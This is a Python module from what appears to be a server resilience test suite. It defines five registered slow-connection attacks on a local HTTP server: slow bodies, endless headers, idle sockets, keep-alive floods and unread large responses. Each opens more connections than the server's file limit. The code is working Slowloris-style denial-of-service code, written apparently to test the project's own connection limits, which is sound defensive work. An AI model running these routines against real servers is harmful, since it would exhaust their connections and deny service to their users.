"""04: plain HTTP connections that take places and do nothing. The server may open 1024 files."""

from __future__ import annotations

import asyncio
import contextlib

from tools.attacks.enemy import Enemy
from tools.attacks.place import ATTACKER
from tools.attacks.registry import attack
from tools.attacks.wire import push, request_head

KIND = "connections that are not counted and have no deadline"
GRANT = "none"
MOST = 1100
FILES = 1024
SETTINGS = {"max_connections": "400", "max_connections_per_address": "100"}
AT_ONCE = 50


async def hold(enemy: Enemy, start: bytes, drip: bytes, turn: asyncio.Semaphore, *, reads: bool = True) -> None:
    """One connection that sends a little every second; another one when it is closed."""
    while not enemy.over:
        async with turn:
            try:
                reader, writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", enemy.port), 3)
            except (OSError, TimeoutError):
                enemy.did["not connected"] += 1
                await asyncio.sleep(0.2)
                continue
            if start:
                await push(writer, start)
        enemy.did["connections"] += 1
        if not reads:
            writer.transport.pause_reading()  # type: ignore[attr-defined]
        with contextlib.suppress(OSError):
            while not writer.is_closing() and not reader.at_eof():
                await asyncio.sleep(1)
                await push(writer, drip)
        writer.transport.abort()
        enemy.did["closed by the server"] += 1


async def crowd(enemy: Enemy, start: bytes, drip: bytes, *, reads: bool = True) -> None:
    """More of them than the server may open files."""
    turn = asyncio.Semaphore(AT_ONCE)
    await enemy.all(*(hold(enemy, start, drip, turn, reads=reads) for _ in range(MOST)))


@attack("04-http slow-bodies", kind=KIND, grant=GRANT, files=FILES, settings=SETTINGS, seconds=2, short=True)
async def bodies(enemy: Enemy) -> None:
    """Requests with a long body that nobody reads, one byte a second."""
    await crowd(enemy, request_head("GET", "/healthz", address=ATTACKER, content_length=1_000_000), b"x")


@attack("04-http slow-heads", kind=KIND, grant=GRANT, files=FILES, settings=SETTINGS, seconds=2, short=True)
async def heads(enemy: Enemy) -> None:
    """Heads without an end, one byte a second."""
    await crowd(enemy, f"GET /healthz HTTP/1.1\r\nX-Forwarded-For: {ATTACKER}\r\nX-Slow: ".encode(), b"x")


@attack("04-http idle", kind=KIND, grant=GRANT, files=FILES, settings=SETTINGS, seconds=2)
async def idle(enemy: Enemy) -> None:
    """Connections without any request; and when the server ends them, others."""
    await crowd(enemy, b"", b"")


@attack("04-http keep-alive", kind=KIND, grant=GRANT, files=FILES, settings=SETTINGS, seconds=2)
async def keep_alive(enemy: Enemy) -> None:
    """Connections that have had one answer and are kept alive with another request every second."""
    request = request_head("GET", "/healthz", address=ATTACKER)
    await crowd(enemy, request, request)


@attack("04-http unread", kind=KIND, grant=GRANT, files=FILES, settings=SETTINGS, seconds=2)
async def unread(enemy: Enemy) -> None:
    """Ten requests at a time for a large answer that is never read."""
    request = request_head("GET", "/openapi.json", address=ATTACKER)
    await crowd(enemy, request * 10, request, reads=False)
